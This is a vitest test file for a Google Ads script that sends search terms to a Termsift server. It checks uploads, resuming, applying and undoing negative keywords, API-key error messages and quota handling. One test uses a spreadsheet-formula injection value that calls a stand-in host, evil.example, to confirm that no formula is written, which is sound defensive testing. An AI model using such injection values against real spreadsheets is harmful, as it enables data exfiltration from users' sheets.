import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  type NewServer,
  spawnNewServer,
} from "../../packages/server/src/testing/spawn-new-server.ts";
import {
  createAdvertiser,
  type TestClient,
} from "../../packages/server/src/testing/test-client.ts";
import type { Campaign, SearchTermRow } from "./testing/ads-account.ts";
import { AdsScript } from "./testing/ads-script.ts";
import { run, termsOf } from "./testing/run-script.ts";

/** A test may filter several reports, and the machine may be busy. */
const TIMEOUT_MS = 300_000;

describe("the Google Ads script against a Termsift server", { timeout: TIMEOUT_MS }, () => {
  let server: NewServer;
  let address: string;
  let ada: TestClient;
  beforeAll(async () => {
    server = await spawnNewServer({ CLASSIFIER: "rules", TRUST_PROXY: "true" });
    address = server.url;
    ada = await createAdvertiser(address);
  });
  afterAll(() => server.stop());

  type Key = { readonly id: string; readonly key: string };
  const createKey = async (client: TestClient, scope = "write"): Promise<Key> =>
    (await client.call<Key>("POST", "/api/account/keys", { name: "Ads", scope })).body;
  const settings = async () => ({ server: address, apiKey: (await createKey(ada)).key });
  const tick = (ads: AdsScript, count: number) => {
    for (const row of ads.sheet("Proposals").slice(2, count + 2)) row[0] = true;
  };

  it("uses only syntax and objects that Google Ads scripts have", () => {
    const source = readFileSync(new URL("termsift.js", import.meta.url), "utf8");
    expect(source).not.toMatch(/\?\.|\?\?|\|\|=|&&=|\.at\(|replaceAll|\bawait\b|\basync\b|\d_\d/u);
    expect(source).not.toMatch(
      /(?<!\.)\b(?:require|import|fetch|setTimeout)\(|\b(?:console|process|Buffer)\./u,
    );
  });

  it("sends 51,000 rows, read in pages, waits beyond one call's time, and writes every proposal to a sheet", async () => {
    const copies = [1, 2, 3, 4].map((group) =>
      termsOf(12_750).map((row) => Object.assign(row, { adGroup: `Group ${group}` })),
    );
    const more = termsOf(1_000).map((row) => Object.assign(row, { keyword: "another keyword" }));
    const terms = [...copies.flat(), ...more];
    const ads = new AdsScript({ terms, startTimeoutMs: 300 });
    const keys = await settings();
    await run(ads, keys);
    expect(ads.log.join("\n")).toMatch(/Sent \d+ rows to Termsift\./u);
    expect(ads.requests.slice(0, 4)).toEqual([
      "GET /api/businesses/list",
      "GET /api/search-terms/upload-url",
      expect.stringMatching(/^PUT \/api\/uploads\//u),
      "PUT /api/search-terms/upload",
    ]);
    expect(ads.requests).toContain("GET /api/search-terms/uploads");
    const results = await ada.call<{
      results: { summary: { terms: number; cost: { total: number } }; id: string }[];
    }>("GET", "/api/search-terms/results");
    const [{ summary, id } = { summary: { terms: 0, cost: { total: 0 } }, id: "" }] =
      results.body.results;
    expect(summary.terms).toBe(new Set(terms.map(({ term }) => term)).size);
    const cost = terms.reduce((sum, { costMicros }) => sum + costMicros / 1e6, 0);
    expect(summary.cost.total).toBeCloseTo(cost, 2);
    type Lists = Record<"negative_keywords" | "irrelevant_keywords" | "review_keywords", object[]>;
    const { body } = await ada.call<Lists>("GET", `/api/search-terms/results/${id}`);
    const proposed = [body.negative_keywords, body.irrelevant_keywords, body.review_keywords];
    expect(ads.sheet("Proposals")).toHaveLength(proposed.flat().length + 2);
    // More than the script writes at once.
    expect(proposed.flat().length).toBeGreaterThan(5_000);
    expect(ads.properties.has("termsiftUpload")).toBe(false);
  });

  it("continues with the same report in the next run if Google's time is up", async () => {
    const ads = new AdsScript({ terms: termsOf(400), startTimeoutMs: 1 });
    const keys = await settings();
    const count = async () =>
      (await ada.call<{ count: number }>("GET", "/api/usage/count")).body.count;
    const before = await count();
    ads.runSeconds = 100;
    await run(ads, keys);
    expect(ads.log.at(-1)).toMatch(/^Termsift is still working\. Run this script again/u);
    expect(ads.sheet("Proposals")).toEqual([]);
    ads.runSeconds = 1_800;
    await run(ads, keys);
    const sent = ads.requests.filter((request) => request.startsWith("PUT /api/uploads/"));
    expect([sent.length, (await count()) - before]).toEqual([1, 1]);
    expect(ads.sheet("Proposals").length).toBeGreaterThan(100);
  });

  it("changes nothing in a dry run, adds ticked terms to shared lists of 5,000, and undoes exactly these", async () => {
    const ads = new AdsScript({ terms: termsOf(11_000) });
    const keys = await settings();
    await run(ads, keys);
    tick(ads, 5_100);
    await run(ads, { ...keys, action: "apply" });
    expect(ads.log.at(-1)).toMatch(/^Dry run: 5100 ticked terms would be excluded\./u);
    expect(ads.lists).toEqual([]);
    await run(ads, { ...keys, action: "apply", isDryRun: false });
    expect(ads.log.at(-1)).toMatch(/^5100 negative keywords added\./u);
    expect(ads.lists.map((list) => [list.getName(), list.keywords.length])).toEqual([
      ["Termsift", 5_000],
      ["Termsift 2", 100],
    ]);
    for (const campaign of ads.campaigns.values()) {
      expect([campaign.lists.size, [...campaign.labelNames]]).toEqual([2, ["Termsift"]]);
    }
    await run(ads, { ...keys, action: "apply", isDryRun: false });
    expect(ads.log.at(-1)).toMatch(/^0 negative keywords added\./u);
    ads.lists[0]?.keywords.splice(0, 1);
    ads.lists[0]?.addNegativeKeyword("[the user's own]");
    await run(ads, { ...keys, action: "undo" });
    expect(ads.log).toEqual([
      "Dry run: 5100 negative keywords would be removed. Set isDryRun to false to remove them.",
    ]);
    await run(ads, { ...keys, action: "undo", isDryRun: false });
    expect(ads.log).toEqual(["5099 negative keywords removed."]);
    const left = ads.lists.flatMap((list) => list.keywords.map((keyword) => keyword.getText()));
    expect(left).toEqual(["the user's own"]);
  });

  it("adds a term only to the campaigns in which it appeared, and leaves the user's own negatives", async () => {
    const terms = termsOf(8).map((row) =>
      Object.assign(row, { term: row.term.replace(/ \d+$/u, "") }),
    );
    const ads = new AdsScript({ terms });
    ads.campaigns.get("Campaign 0")?.createNegativeKeyword("[rota planner jobs]");
    const keys = await settings();
    await run(ads, keys);
    tick(ads, 10);
    const applied = { ...keys, action: "apply", isDryRun: false, target: "campaigns" };
    await run(ads, applied);
    const negatives = () =>
      Object.fromEntries(
        [...ads.campaigns].map(([name, { keywords }]) => [name, keywords.map((k) => k.getText())]),
      );
    const campaignsOf = (term: string) =>
      new Set(terms.filter((row) => row.term === term).map(({ campaign }) => campaign));
    for (const [name, texts] of Object.entries(negatives())) {
      expect(new Set(texts).size).toBe(texts.length);
      for (const text of texts) {
        const isOwn = name === "Campaign 0" && text === "rota planner jobs";
        expect([name, text, isOwn || campaignsOf(text).has(name)]).toEqual([name, text, true]);
      }
    }
    expect(negatives()["Campaign 2"]).toContain("rota planner jobs");
    const renamed = ads.campaigns.get("Campaign 2") as Campaign;
    renamed.name = "Renamed";
    await run(ads, { ...applied, action: "undo" });
    expect(negatives()["Campaign 2"]).toContain("rota planner jobs");
    expect(ads.log.join("\n")).toContain('"Campaign 2" was not found');
    renamed.name = "Campaign 2";
    await run(ads, { ...applied, action: "undo" });
    expect(negatives()).toEqual({
      "Campaign 0": ["rota planner jobs"],
      "Campaign 1": [],
      "Campaign 2": [],
    });
  });

  it("writes no search term as a formula, and leaves out terms that Google refuses", async () => {
    const terms = [
      { ...termsOf(1)[0], term: '=IMPORTXML("http://evil.example/";"//a") jobs' },
      { ...termsOf(1)[0], term: "rota planner jobs a, b and c" },
      { ...termsOf(1)[0], term: `rota planner jobs ${"very ".repeat(12)}long` },
    ] as SearchTermRow[];
    const ads = new AdsScript({ terms });
    const keys = await settings();
    await run(ads, keys);
    const [file] = ads.spreadsheets.values();
    expect(file?.sheets.get("Proposals")?.formulas).toEqual([]);
    tick(ads, 3);
    await run(ads, { ...keys, action: "apply", isDryRun: false });
    const states = new Set(
      ads
        .sheet("Proposals")
        .slice(2)
        .map((row) => row[8]),
    );
    expect([...states].sort()).toEqual([
      "has a character that Google refuses",
      "too long for a negative keyword",
    ]);
    expect(ads.lists.flatMap((list) => list.keywords)).toEqual([]);
  });

  it("tells the user why a key does not work, and what to do", async () => {
    const ads = new AdsScript({ terms: termsOf(10) });
    const read = await createKey(ada, "read");
    const revoked = await createKey(ada);
    await ada.call("DELETE", `/api/account/keys/${revoked.id}`);
    const messageWith = (apiKey: string, to = address) => {
      try {
        ads.run({ server: to, apiKey });
        return "";
      } catch (error) {
        return (error as Error).message;
      }
    };
    expect(messageWith("tsk_...")).toBe(
      "Termsift: This API key is not known to this server. Check that it was copied completely, or create a new one on the dashboard.",
    );
    expect(messageWith(revoked.key)).toBe(
      "Termsift: This API key was revoked. Create a new one on the dashboard.",
    );
    expect(messageWith(read.key)).toBe(
      "Termsift: This API key may only read. Create one that may also write.",
    );
    expect(messageWith(read.key, "http://127.0.0.1:1")).toContain("Address unavailable");
    expect(messageWith("")).toBe("Termsift: enter your API key as apiKey in SETTINGS.");
    expect(ads.sheet("Proposals")).toEqual([]);
  });
});

describe("the Google Ads script at the monthly limit", { timeout: TIMEOUT_MS }, () => {
  it("tells the user about a full quota, and sends a new report after it", async () => {
    const server = await spawnNewServer({ CLASSIFIER: "rules", USAGE_LIMITS: "plan" });
    const address = server.url;
    try {
      const ada = await createAdvertiser(address);
      const wish = { name: "Ads", scope: "write" };
      const { key } = (await ada.call<{ key: string }>("POST", "/api/account/keys", wish)).body;
      const ads = new AdsScript({ terms: termsOf(10) });
      await run(ads, { server: address, apiKey: key });
      expect(() => ads.run({ server: address, apiKey: key })).toThrow(
        "Termsift: You've reached your monthly limit. Upgrade your plan or wait for the next month.",
      );
      expect(ads.properties.has("termsiftUpload")).toBe(false);
      expect(ads.sheet("Proposals").length).toBeGreaterThan(1);
    } finally {
      await server.stop();
    }
  });
});
